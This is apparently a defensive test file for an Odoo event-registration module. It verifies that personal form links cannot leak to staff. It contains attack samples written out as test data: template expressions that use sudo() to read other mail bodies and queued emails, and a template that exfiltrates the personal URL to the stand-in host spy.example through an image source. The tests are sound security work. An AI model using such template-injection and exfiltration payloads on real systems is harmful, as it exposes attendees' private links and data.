from odoo.exceptions import UserError
from odoo.tests import tagged

from ..common import NOW
from .test_form_link import FormCase

TEMPLATES = (
    "passeport_prevention.mail_template_ask_data",
    "passeport_prevention.mail_template_remind_data",
    "passeport_prevention.mail_template_convocation",
)
PERSONAL = "/passeport/f/"
# What a colleague who may write templates could try, whatever the environment it runs in.
EXPRESSIONS = (
    "object._passport_form_url()",
    "object.sudo()._passport_form_url()",
    "object.sudo()._passport_convocation_link()",
    "object.env['passport.personal.form'].sudo()._urls(object.sudo())",
    "object.env['passport.personal.form'].sudo()._links(object.sudo())._rec_name",
    "object.sudo().passport_form_link_ids.read()",
    "[dir(link) for link in object.sudo().passport_form_link_ids]",
    "object.env['mail.mail'].sudo().search([])._prepare_outgoing_list()",
    "object.env['mail.mail'].sudo().search([], limit=1)._prepare_outgoing_body()",
    "object.env['mail.mail'].sudo().search([]).mapped('body_html')",
    "object.env['passport.letter'].sudo().search([]).read()",
)


@tagged("post_install", "-at_install", "passport")
class TestLinkAttacks(FormCase):
    """A personal address is given to who sends the e-mail to the person, and to nobody else."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.registration.write({"state": "open"})
        cls.session_sst.write(
            {"date_begin": "2026-12-09 07:00:00", "date_end": "2026-12-10 15:00:00"}
        )
        # A request on its way: its link exists, and its e-mail waits in the queue.
        cls.registration.action_passport_ask()
        cls.staff = [role for role in cls.users if role != "portal"]

    def setUp(self):
        super().setUp()
        self.signature = self.token()[16:]

    def assertHarmless(self, text, message=None):
        self.assertNotIn(PERSONAL, str(text), message)
        self.assertNotIn(self.signature, str(text), message)

    def supplied(self):
        for xmlid in TEMPLATES:
            for role in self.staff:
                with self.subTest(xmlid=xmlid, role=role):
                    yield self.as_role(self.env.ref(xmlid), role)

    def test_preview(self):
        seen = 0
        for template in self.supplied():
            try:
                preview = template.env["mail.template.preview"].create(
                    {
                        "mail_template_id": template.id,
                        "resource_ref": f"event.registration,{self.registration.id}",
                    }
                )
                shown = f"{preview.body_html} {preview.error_msg}"
            except UserError as error:
                shown = str(error)
            self.assertHarmless(shown)
            seen += "/passeport/lien#personnel" in shown
        # The preview works: what it shows is the page that is everybody's.
        self.assertTrue(seen)

    def test_composer(self):
        seen = 0
        for template in self.supplied():
            try:
                composer = template.env["mail.compose.message"].create(
                    {
                        "model": "event.registration",
                        "res_ids": self.registration.ids,
                        "template_id": template.id,
                        "composition_mode": "comment",
                    }
                )
                body = composer.body
            except UserError as error:
                body = str(error)
            self.assertHarmless(body)
            seen += "/passeport/lien#personnel" in body
        self.assertTrue(seen)

    def test_sent_to_one_s_own_address(self):
        sent = 0
        for template in self.supplied():
            own = f"{template.env.user.login}@of.example"
            values = {"email_to": own, "recipient_ids": []}
            with self.mock_mail_gateway():
                try:
                    template.send_mail(self.registration.id, force_send=True, email_values=values)
                except UserError as error:
                    self.assertHarmless(error)
            for mail in self._mails:
                sent += 1
                self.assertHarmless(mail["body"])
                self.assertHarmless(mail["EmailMessage"])
        self.assertTrue(sent)

    def test_templates_of_one_s_own(self):
        answers = []
        for role in self.staff:
            templates = self.as_role(self.env["mail.template"], role)
            for expression in EXPRESSIONS:
                with self.subTest(role=role, expression=expression):
                    try:
                        rendered = templates._render_template(
                            f'<p t-out="{expression}"/>',
                            "event.registration",
                            self.registration.ids,
                            engine="qweb",
                        )[self.registration.id]
                    except Exception as error:
                        rendered = str(error)
                    self.assertHarmless(rendered)
                    answers.append(rendered)
        # They run, with a superuser's rights too: what they find is the page that is everybody's.
        self.assertIn("/passeport/lien#personnel", str(answers))

    def test_nothing_waits_in_the_database(self):
        self.env.flush_all()
        self.env.cr.execute(
            "SELECT to_jsonb(m)::text, to_jsonb(mm)::text FROM mail_mail m JOIN mail_message mm"
            " ON mm.id = m.mail_message_id"
        )
        rows = self.env.cr.fetchall()
        self.assertIn("/passeport/lien#personnel", str(rows))
        self.assertHarmless(rows)

    def test_whatever_the_template_says_it_goes_to_the_person_alone(self):
        # In the language of the attendee: the body is translated.
        template = self.env.ref(TEMPLATES[0]).with_context(lang="fr_FR")
        spy = self.env["res.partner"].create({"name": "Spy", "email": "spy@of.example"})
        template.write(
            {
                "email_to": "spy@of.example",
                "email_cc": "spy@of.example",
                "partner_to": str(spy.id),
                "reply_to": "spy@of.example",
                "body_html": """<div>
                    <img t-att-src="'https://spy.example/?u=' + object._passport_form_url()"/>
                    <a t-att-href="object._passport_form_url()">Mes données</a>
                    <span t-out="object._passport_form_url()"/>
                    <a t-att-href="'https://spy.example/?u=' + object._passport_form_url()">x</a>
                </div>""",
            }
        )
        self.leave()
        (mail,) = self.leave(self.registration.action_passport_ask)
        self.assertEqual((mail["email_to"], mail["email_cc"]), (["ines@example.com"], []))
        message = mail["EmailMessage"]
        for header in ("To", "Cc", "Bcc", "Reply-To"):
            self.assertNotIn("spy", str(message[header] or ""), header)
        self.assertIn(f'href="{self.address()}"', mail["body"])
        self.assertIn('src="https://spy.example/?u=http://of.example/passeport/lien#', mail["body"])
        # Where a link is to be clicked on there is the address, and nothing before it.
        self.assertNotIn("https://spy.example/?u=http://of.example/passeport/f/", mail["body"])

    def test_only_while_it_leaves_for_the_person(self):
        mail = self.env["mail.mail"].sudo().search([("email_to", "=", "ines@example.com")])
        self.assertEqual(len(mail), 1)
        for values in (
            {"email_to": "spy@of.example"},
            {"email_to": "ines@example.com,spy@of.example"},
            {"email_cc": "spy@of.example"},
            {"recipient_ids": [(4, self.client.id)]},
        ):
            with self.subTest(values=values), self.env.cr.savepoint() as savepoint:
                self.client.email = "rh@client.example"
                mail.write(values)
                for sent in self.leave():
                    self.assertHarmless(sent["body"])
                    self.assertHarmless(sent["EmailMessage"])
                savepoint.rollback()
                self.env.invalidate_all()
        (sent,) = self.leave()
        self.assertIn(self.address(), sent["body"])

    def test_not_once_the_link_is_dead(self):
        for values in ({"revoked_on": NOW}, {"done_on": NOW, "outcome": "given"}):
            with self.subTest(values=values), self.env.cr.savepoint() as savepoint:
                self.link().write(values)
                (sent,) = self.leave()
                self.assertHarmless(sent["body"])
                savepoint.rollback()
                self.env.invalidate_all()

    def test_not_after_the_address_was_corrected(self):
        self.registration.email = "ines.morel@example.com"
        (sent,) = self.leave()
        self.assertHarmless(sent["body"])

    def test_not_through_a_mail_server_of_one_s_own(self):
        mail = self.env["mail.mail"].sudo().search([("email_to", "=", "ines@example.com")])
        own = self.env["ir.mail_server"].sudo()
        own = own.create(
            {
                "name": "Own",
                "smtp_host": "spy.example",
                "owner_user_id": self.users["user"].id,
                "from_filter": self.users["user"].email,
            }
        )
        self.assertFalse(mail._filter_mail_mail_servers(own))
